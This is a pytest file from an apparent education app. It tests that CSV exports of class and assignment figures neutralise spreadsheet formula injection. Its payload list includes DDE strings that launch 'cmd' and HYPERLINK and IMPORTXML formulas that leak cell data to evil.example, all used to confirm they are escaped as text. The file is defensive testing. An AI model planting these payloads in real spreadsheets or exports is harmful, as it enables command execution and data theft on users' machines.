"""A table that a teacher opens in a spreadsheet runs nothing: not a class's name, not a lesson's words."""

from __future__ import annotations

import csv
import io

import pytest

from eduapp.progress.rules import safe_cell
from tests import people
from tests.authoring.conftest import Coordinator
from tests.pages import Visitor

RUN = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")  # what Excel, LibreOffice or Sheets may run
FORMULAS = [
    "=cmd|' /C calc'!A0", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1", "\r=1+1", "\n=1+1", "＝1+1", "＋1", "－1", "＠SUM(1)", '=HYPERLINK("http://evil.example?"&A1,"x")',
    '=IMPORTXML(CONCAT("http://evil.example/",A1),"//a")', "=DDE(\"cmd\";\"/C calc\";\"x\")", "=1+1\";=2+2",
]  # fmt: skip


def runs(cell: str) -> bool:
    return cell.startswith(RUN)


@pytest.mark.parametrize("formula", FORMULAS)
def test_a_formula_becomes_text(formula):
    assert runs(formula)  # the control
    assert not runs(safe_cell(formula))
    assert safe_cell(formula).endswith(formula)  # nothing of it is lost


@pytest.mark.parametrize("harmless", ["", "Blue Heron", "68-L3", "3 + 4", "a=b", "Ñandú", "¿Qué es?"])
def test_other_text_stays_as_it_is(harmless):
    assert safe_cell(harmless) == harmless


def tables(visitor: Visitor, taught: people.Taught) -> list[list[str]]:
    """Every row of both tables of a class, as a spreadsheet reads them, in both languages."""
    found: list[list[str]] = []
    for address in (f"/teach/classes/{taught.id}/figures.csv", f"/teach/assignments/{taught.assignment}/figures.csv"):
        for language in ("en", "es"):
            page = visitor.get(f"{address}?lang={language}")
            found += csv.reader(io.StringIO(page.body.removeprefix("\ufeff")))
            assert "\n" not in page.headers["Content-Disposition"]
    return found


@pytest.mark.parametrize("label", FORMULAS)
def test_a_classs_name_runs_nothing(app, cast, label):
    taught = people.make_taught(app, cast.rivera, label, "6-8", people.SENSITIVE_LESSON)
    rivera = Visitor(app)
    rivera.sign_in(cast.rivera)
    cells = [cell for row in tables(rivera, taught) for cell in row]
    assert cells
    assert not [cell for cell in cells if runs(cell)]


def test_a_lessons_words_run_nothing(app, cast):
    """A coordinator writes formulas where students choose; a class takes the lesson; its teacher saves the table."""
    dolores = Coordinator(app)
    dolores.sign_in(cast.dolores)
    old = people.screens_of(app, "35-L4")
    question = next(s.question for s in old if s.question and s.question.kind == "single_choice")
    for option, formula in zip(question.spec.choices[0].options, ("=A+B", "@SUM(A)", "＝SUM(B)"), strict=True):
        dolores.save(option.text, formula, page=dolores.desk("35-L4"))
    published = dolores.desk("35-L4", "/publish").submit({"note": "Shorter"})
    assert published.status == 200, published.text
    taught = people.make_taught(app, cast.okafor, "Okafor 13", "3-5", "35-L4", seed=13)
    for student in taught.students:
        people.walk(app, student, taught.assignment)
    okafor = Visitor(app)
    okafor.sign_in(cast.okafor)
    cells = [cell for row in tables(okafor, taught) for cell in row]
    assert {"'=A+B", "'@SUM(A)", "'＝SUM(B)"} <= set(cells)
    assert not [cell for cell in cells if runs(cell)]
